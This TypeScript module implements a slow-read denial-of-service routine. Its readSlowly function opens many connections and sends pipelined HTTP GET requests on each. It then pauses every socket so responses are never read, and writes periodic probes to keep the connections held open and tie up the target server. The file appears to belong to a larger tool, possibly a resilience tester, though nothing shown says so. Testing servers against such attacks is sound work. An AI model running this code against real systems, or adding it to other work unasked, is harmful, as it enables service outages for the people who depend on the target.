import type { Socket } from "node:net";
import { headersFor, holdConnections, type Outcome, type Target } from "./target.ts";

export interface SlowReaders {
  readonly connections: number;
  readonly path: string;
  /** Requests on each connection, sent one after the other without waiting. */
  readonly requests?: number;
}

/** [F8] Asks for answers and never reads them. */
export async function readSlowly(
  target: Target,
  { connections, path, requests = 1 }: SlowReaders,
  signal: AbortSignal,
): Promise<Outcome> {
  const heads = `GET ${path} HTTP/1.1\r\n${headersFor(target)}\r\n`.repeat(requests);
  const begin = (socket: Socket): void => {
    socket.pause();
    socket.write(heads);
    // A paused socket sees the end of the connection only when it writes.
    const probe = setInterval(() => socket.write("\r\n"), 500);
    socket.on("close", () => clearInterval(probe));
  };
  return await holdConnections(target, connections, begin, signal);
}
